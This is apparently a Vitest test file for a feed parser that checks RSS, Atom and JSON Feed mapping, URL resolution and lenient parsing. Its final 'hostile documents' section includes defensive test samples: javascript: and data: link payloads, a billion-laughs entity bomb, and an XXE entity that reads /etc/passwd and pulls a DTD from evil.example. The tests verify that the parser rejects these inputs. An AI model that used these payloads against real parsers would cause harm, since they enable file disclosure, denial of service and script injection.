// parseFeedDocument end to end: formats, URL bases, fallbacks, media, leniency and hostile documents.
import { parseDuration } from "@tidings/shared"
import { describe, expect, it } from "vitest"
import { parseFeedDocument } from "../../src/reader/parse.ts"
import { FeedParseError, type ParseInput } from "../../src/reader/types.ts"

const URL_ = "https://feeds.example.com/blog/feed.xml"
const parse = (doc: string, input: Partial<ParseInput> = {}) =>
  parseFeedDocument(Buffer.from(doc), { url: URL_, contentType: "application/xml", ...input })

const RSS = `<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/"
  xmlns:media="http://search.yahoo.com/mrss/" xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd">
<channel>
  <title>Fish &amp; Chips</title><link>/</link><description>All about &lt;b&gt;fish&lt;/b&gt;</description>
  <language>en-gb</language><ttl>60</ttl><lastBuildDate>Mon, 01 Jan 2024 10:00:00 +0000</lastBuildDate>
  <image><url>/logo.png</url><title>x</title><link>/</link></image>
  <item>
    <title><![CDATA[Cod & <i>Haddock</i>]]></title><link>/posts/cod</link>
    <guid isPermaLink="false">post-1</guid><dc:creator>Jane Roe</dc:creator>
    <pubDate>Tue, 02 Jan 2024 08:30:00 GMT</pubDate>
    <category>Fish</category><dc:subject>Food</dc:subject>
    <description>Short &lt;b&gt;summary&lt;/b&gt;</description>
    <content:encoded><![CDATA[<p>Full <a href="../about">text</a> <img src="img/cod.jpg" width="800" height="600"><script>x()</script></p>]]></content:encoded>
    <enclosure url="/audio/cod.mp3" length="12345" type="audio/mpeg"/>
    <itunes:duration>1:02:03</itunes:duration>
    <media:thumbnail url="https://cdn.example.com/cod-thumb.jpg" width="120" height="90"/>
    <media:group><media:content url="https://cdn.example.com/cod.mp4" type="video/mp4" width="1280" height="720"/></media:group>
  </item>
  <item><description>Only a description with a &lt;a href="x.html"&gt;link&lt;/a&gt;</description></item>
</channel></rss>`

describe("RSS 2.0", () => {
  const feed = parse(RSS)
  const [first, second] = feed.entries

  it("maps the channel", () => {
    expect(feed).toMatchObject({
      format: "rss",
      title: "Fish & Chips",
      siteUrl: "https://feeds.example.com/",
      image: "https://feeds.example.com/logo.png",
      language: "en-gb",
      ttlMinutes: 60,
      description: "All about fish",
      descriptionHtml: "All about <b>fish</b>",
    })
    expect(feed.updatedAt?.toISOString()).toBe("2024-01-01T10:00:00.000Z")
  })

  it("maps an item with content, summary, author, categories and date", () => {
    expect(first).toMatchObject({
      guid: "post-1",
      title: "Cod & <i>Haddock</i>",
      url: "https://feeds.example.com/posts/cod",
      description: "Short summary",
      author: "Jane Roe",
      categories: ["Fish", "Food"],
      language: "en-gb",
    })
    expect(first.publishedAt?.toISOString()).toBe("2024-01-02T08:30:00.000Z")
    expect(first.content).toContain(`href="https://feeds.example.com/about"`)
    expect(first.content).not.toContain("script")
  })

  it("collects attachments and media", () => {
    expect(first.attachments).toEqual([
      {
        url: "https://feeds.example.com/audio/cod.mp3",
        mime_type: "audio/mpeg",
        size_in_bytes: 12345,
        duration_in_seconds: 3723,
      },
    ])
    expect(first.media).toEqual([
      {
        url: "https://cdn.example.com/cod.mp4",
        type: "video",
        width: 1280,
        height: 720,
        preview_image_url: "https://cdn.example.com/cod-thumb.jpg",
      },
      { url: "https://feeds.example.com/blog/img/cod.jpg", type: "photo", width: 800, height: 600 },
    ])
  })

  it("falls back to the description for content and derives a plain-text summary", () => {
    expect(second.content).toBe(
      `Only a description with a <a href="https://feeds.example.com/blog/x.html" rel="noopener noreferrer" target="_blank">link</a>`,
    )
    expect(second.description).toBe("Only a description with a link")
    expect(second.publishedAt).toBeNull()
  })

  it("gives entries without guid or link a stable hashed identity", () => {
    expect(second.guid).toMatch(/^[0-9a-f]{40}$/)
    expect(parse(RSS).entries[1].guid).toBe(second.guid)
  })
})

describe("Atom", () => {
  const ATOM = `<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://blog.example.org/a/" xml:lang="de">
    <title type="html">Caf&amp;eacute; &lt;b&gt;Blog&lt;/b&gt;</title><link href="./" rel="alternate"/>
    <link rel="self" href="https://feeds.example.com/feed"/><logo>logo.png</logo><author><name>Feed Writer</name></author>
    <updated>2024-01-01T00:00:00Z</updated>
    <entry xml:base="posts/">
      <id>tag:example.org,2024:1</id><title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">A <em>b</em></div></title>
      <link href="one.html"/><link rel="enclosure" href="one.mp3" type="audio/mpeg" length="42"/>
      <link rel="replies" href="comments"/><updated>2024-01-02T00:00:00Z</updated>
      <category term="t1" label="Label One"/><category term="t2"/>
      <summary>Plain &lt;not a tag&gt;</summary>
      <content type="xhtml" xml:base="media/"><div xmlns="http://www.w3.org/1999/xhtml"><p><img src="pic.png"/></p></div></content>
    </entry>
    <entry><id>2</id><content type="html">&lt;p&gt;Hi &lt;a href="/x"&gt;x&lt;/a&gt;&lt;/p&gt;</content></entry>
  </feed>`
  const feed = parse(ATOM)
  const [first, second] = feed.entries

  it("applies nested xml:base to links, enclosures and content", () => {
    expect(feed.siteUrl).toBe("https://blog.example.org/a/")
    expect(feed.image).toBe("https://blog.example.org/a/logo.png")
    expect(first.url).toBe("https://blog.example.org/a/posts/one.html")
    expect(first.attachments?.[0]).toMatchObject({ url: "https://blog.example.org/a/posts/one.mp3", size_in_bytes: 42 })
    expect(first.content).toBe(`<p><img src="https://blog.example.org/a/posts/media/pic.png" /></p>`)
    expect(second.content).toContain(`href="https://blog.example.org/x"`)
  })

  it("reads text constructs by type", () => {
    expect(feed.title).toBe("Café Blog")
    expect(first.title).toBe("A b")
    expect(first.description).toBe("Plain <not a tag>")
    expect(second.description).toBe("Hi x")
  })

  it("inherits the feed author and language; uses updated when nothing is published", () => {
    expect(first).toMatchObject({ guid: "tag:example.org,2024:1", author: "Feed Writer", language: "de" })
    // RFC 4287 §4.2.2.1: term identifies the category; label is only for display
    expect(first.categories).toEqual(["t1", "t2"])
    expect(first.publishedAt?.toISOString()).toBe("2024-01-02T00:00:00.000Z")
  })

  it("decodes Atom 0.3 base64 content", () => {
    const doc = `<feed version="0.3" xmlns="http://purl.org/atom/ns#"><entry><id>x</id>
      <content type="text/html" mode="base64">${Buffer.from("<b>bold</b> move").toString("base64")}</content></entry></feed>`
    expect(parse(doc).entries[0].content).toBe("<b>bold</b> move")
  })
})

describe("JSON Feed", () => {
  it("maps items, authors, attachments and relative URLs", () => {
    const doc = JSON.stringify({
      version: "https://jsonfeed.org/version/1",
      title: "J",
      home_page_url: "/",
      icon: "/icon.png",
      author: { name: "Feed Author", avatar: "/me.png" },
      items: [
        {
          id: 7,
          url: "posts/7",
          title: "</not a tag>",
          content_html: `<p>Hi <img src="/a.png"></p>`,
          date_published: "2024-01-02T03:04:05+01:00",
          tags: ["a", "b"],
          image: "/cover.jpg",
          attachments: [{ url: "/ep.mp3", mime_type: "audio/mpeg", size_in_bytes: 9, duration_in_seconds: 60 }],
        },
      ],
    })
    const feed = parse(doc, { contentType: "application/feed+json" })
    expect(feed).toMatchObject({ format: "json", title: "J", siteUrl: "https://feeds.example.com/" })
    expect(feed.entries[0]).toMatchObject({
      guid: "7",
      title: "</not a tag>",
      url: "https://feeds.example.com/blog/posts/7",
      author: "Feed Author",
      authorAvatar: "https://feeds.example.com/me.png",
      categories: ["a", "b"],
      attachments: [
        { url: "https://feeds.example.com/ep.mp3", mime_type: "audio/mpeg", size_in_bytes: 9, duration_in_seconds: 60 },
      ],
    })
    expect(feed.entries[0].media?.map((m) => m.url)).toEqual([
      "https://feeds.example.com/cover.jpg",
      "https://feeds.example.com/a.png",
    ])
    expect(feed.entries[0].publishedAt?.toISOString()).toBe("2024-01-02T02:04:05.000Z")
  })
})

describe("document base", () => {
  it("prefers Content-Location over the fetched URL", () => {
    const doc = `<rss version="2.0"><channel><link>/home</link><item><link>p/1</link></item></channel></rss>`
    const feed = parse(doc, { contentLocation: "https://mirror.example.net/x/feed" })
    expect(feed.siteUrl).toBe("https://mirror.example.net/home")
  })

  it("resolves relative entry links of a feed hosted elsewhere against the document, not its site", () => {
    // RFC 3986 §5.1: the site link is no base (docs/decisions/0003-relative-url-base.md)
    const doc = `<feed xmlns="http://www.w3.org/2005/Atom"><link href="https://site.example.org/"/>
      <entry><id>1</id><link href="post.html"/></entry></feed>`
    expect(parse(doc).entries[0].url).toBe("https://feeds.example.com/blog/post.html")
  })
})

describe("details", () => {
  it("parses itunes:duration forms", () => {
    expect(parseDuration("1:02:03")).toBe(3723)
    expect(parseDuration("62:03")).toBe(3723)
    expect(parseDuration("5:07")).toBe(307)
    expect(parseDuration("3600")).toBe(3600)
    expect(parseDuration(90.4)).toBe(90)
    expect(parseDuration("about an hour")).toBeUndefined()
  })

  it("trims long descriptions at a word boundary", () => {
    const words = "lorem ipsum dolor ".repeat(60)
    const doc = `<rss version="2.0"><channel><item><description>${words}</description></item></channel></rss>`
    const description = parse(doc).entries[0].description ?? ""
    expect(description.length).toBeLessThanOrEqual(501)
    expect(description).toMatch(/(lorem|ipsum|dolor)…$/)
  })

  it("uses the enclosure as identity for podcast items without guid or link", () => {
    const doc = `<rss version="2.0"><channel><item><enclosure url="https://x.org/e1.mp3" type="audio/mpeg"/></item></channel></rss>`
    expect(parse(doc).entries[0].guid).toBe("https://x.org/e1.mp3")
  })
})

describe("leniency", () => {
  const titles = (doc: string) => parse(doc).entries.map((e) => e.title ?? e.guid)

  it("accepts junk before the document, a missing version and items without title or description", () => {
    expect(
      titles(`\n\nlog line\n<?xml version="1.0"?><rss><channel><item><guid>g</guid></item></channel></rss>`),
    ).toEqual(["g"])
  })

  it("accepts a bare <channel> root, a wrong default namespace and a truncated download", () => {
    expect(titles(`<channel><title>C</title><item><title>x</title></item></channel>`)).toEqual(["x"])
    const wrongNs = `<rss version="2.0" xmlns="http://purl.org/rss/1.0/"><channel><item><title>y</title></item></channel></rss>`
    expect(titles(wrongNs)).toEqual(["y"])
    expect(titles(`<rss version="2.0"><channel><item><title>a</title></item><item><title>b`)).toEqual(["a"])
  })

  it("returns an empty feed for an empty channel", () => {
    expect(parse(`<rss version="2.0"><channel></channel></rss>`).entries).toEqual([])
  })

  it("rejects documents that are not feeds", () => {
    const notFeeds = [
      `<!DOCTYPE html><html><head><link rel="alternate" type="application/rss+xml" href="/feed"></head><body>x</body></html>`,
      `<html><body><p>rss</p></body></html>`,
      `<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url/></urlset>`,
      "just text",
      `{"not": "a feed"}`,
      `{"items": [`,
      "",
    ]
    for (const doc of notFeeds) expect(() => parse(doc), doc).toThrow(FeedParseError)
  })
})

describe("hostile documents", () => {
  it("drops javascript:, data: and other non-web schemes from link fields", () => {
    const doc = `<rss version="2.0"><channel><title>t</title><link>javascript:alert(1)</link>
      <item><title>x</title><link>javascript:alert(document.domain)</link><guid>g</guid>
      <enclosure url="data:text/html,&lt;script&gt;" type="audio/mpeg" length="1"/>
      <enclosure url="https://cdn.example/a.mp3" type="audio/mpeg" length="2"/></item></channel></rss>`
    const feed = parse(doc)
    expect(feed.siteUrl).toBeNull()
    expect(feed.entries[0].url).toBeNull()
    expect(feed.entries[0].attachments?.map((a) => a.url)).toEqual(["https://cdn.example/a.mp3"])
  })

  const laughs = () => {
    const entities = ['<!ENTITY lol "lol">']
    for (let i = 1; i <= 9; i++) {
      entities.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? "" : i - 1};`.repeat(10)}">`)
    }
    return `<?xml version="1.0"?><!DOCTYPE rss [${entities.join("")}]>
      <rss version="2.0"><channel><title>&lol9;</title><item><title>&lol9;</title><description>&lol9;</description></item></channel></rss>`
  }

  it("refuses nested entities (billion laughs) at once, with bounded memory", () => {
    const heapBefore = process.memoryUsage().heapUsed
    const started = performance.now()
    expect(() => parse(laughs())).toThrow(/nested entities/)
    expect(performance.now() - started).toBeLessThan(500)
    expect(process.memoryUsage().heapUsed - heapBefore).toBeLessThan(50 * 1024 * 1024)
  })

  it("leaves a single-level entity declaration as literal text", () => {
    const doc = `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY brand "Tidings">]>
      <rss version="2.0"><channel><title>&brand; news</title><item><title>x</title></item></channel></rss>`
    expect(parse(doc).title).toBe("&brand; news")
  })

  it("never resolves external entities", () => {
    const doc = `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY % pe SYSTEM "http://evil.example/x.dtd"> %pe;]>
      <rss version="2.0"><channel><title>a &xxe; b</title></channel></rss>`
    expect(parse(doc).title).toBe("a &xxe; b")
  })

  it("does not multiply a large entity referenced many times", () => {
    const doc = `<rss version="2.0"><channel><!DOCTYPE x [<!ENTITY a "${"A".repeat(100_000)}">]><title>${"&a;".repeat(10_000)}</title></channel></rss>`
    const started = performance.now()
    expect(parse(doc).title?.length).toBe(30_000)
    expect(performance.now() - started).toBeLessThan(1000)
  })
})
